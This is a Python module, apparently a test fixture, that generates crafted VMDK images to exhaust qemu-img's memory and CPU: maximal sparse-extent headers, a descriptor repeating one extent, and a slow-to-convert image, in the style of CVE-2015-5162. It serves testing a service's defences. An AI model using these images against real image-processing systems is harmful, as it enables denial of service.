"""Images crafted to make qemu-img allocate or compute without bound (CVE-2015-5162's kind).

A VMDK4 sparse extent's header says how many grain-directory entries it has (capacity /
(grain size x entries per grain table)); QEMU accepts up to 32 Mi entries and, when it opens
the extent, allocates and reads the whole directory and its backup copy: 256 MiB for a 1 KiB
file (reads past the end come back as zeros). A descriptor may name the same extent several
times, each opened on its own: six make ``qemu-img info`` take about 1.8 GB and 3.6 s of CPU,
and converting the result (48 TiB of 512-byte grains) spins for hours.

Layout of the extent (QEMU's block/vmdk.c, VMDK4Header): the header in sector 0, an embedded
descriptor in sector 1 (``CID=``/``parentCID=`` must be there), both grain directories "at"
sector 2, the first grain at sector 1 so that QEMU's truncation check passes a 1 KiB file.
"""

from __future__ import annotations

import struct
from pathlib import Path

MAX_DIRECTORY_ENTRIES = 32 * 1024 * 1024  # QEMU's limit ("L1 size too big" above it)
GTES_PER_GT = 512
GRAIN_SECTORS = 1
_EMBEDDED = (
    b"# Disk DescriptorFile\nversion=1\nCID=fffffffe\nparentCID=ffffffff\n"
    b'createType="monolithicSparse"\n'
)


def sparse_extent(path: Path, directory_entries: int = MAX_DIRECTORY_ENTRIES) -> Path:
    """A 1 KiB VMDK4 sparse extent whose grain directories have ``directory_entries`` entries
    (4 bytes each, and a backup copy as large)."""
    capacity = directory_entries * GTES_PER_GT * GRAIN_SECTORS
    flags = 0x1 | 0x2  # valid newline test | redundant grain directory
    header = struct.pack(
        "<4sIIQQQQIQQQc4sH",
        b"KDMV",
        1,  # version
        flags,
        capacity,  # sectors
        GRAIN_SECTORS,
        1,  # embedded descriptor: sector 1 ...
        1,  # ... one sector long
        GTES_PER_GT,
        2,  # redundant grain directory: sector 2
        2,  # grain directory: sector 2
        1,  # first grain: sector 1 (what the truncation check compares the file size with)
        b"\0",
        b"\n \r\n",
        0,  # no compression
    )
    path.write_bytes(header.ljust(512, b"\0") + _EMBEDDED.ljust(512, b"\0"))
    return path


def memory_bomb(path: Path, extents: int = 6, *, absolute: bool = True) -> Path:
    """A vmdk descriptor ``path`` naming ``extents`` times one maximal sparse extent beside it:
    about 270 MB of qemu-img's memory per extent, just to open it. The extents are named by
    absolute path (the driver reads a job's image through a descriptor, ``/proc/self/fd/N``,
    against which qemu-img cannot find a relative name), or relative with ``absolute=False``."""
    extent = sparse_extent(path.with_name(path.stem + "-s001.vmdk"))
    sectors = MAX_DIRECTORY_ENTRIES * GTES_PER_GT * GRAIN_SECTORS
    lines = [
        "# Disk DescriptorFile",
        "version=1",
        "CID=fffffffe",
        "parentCID=ffffffff",
        'createType="twoGbMaxExtentSparse"',
        "",
        *[f'RW {sectors} SPARSE "{extent if absolute else extent.name}"' for _ in range(extents)],
    ]
    path.write_text("\n".join(lines) + "\n")
    return path


def slow_to_convert(path: Path) -> Path:
    """A 1 KiB vmdk that opens in milliseconds (4 MiB directories) but describes 256 GiB of
    512-byte grains, which ``qemu-img convert`` walks one by one for minutes."""
    return sparse_extent(path, directory_entries=1024 * 1024)
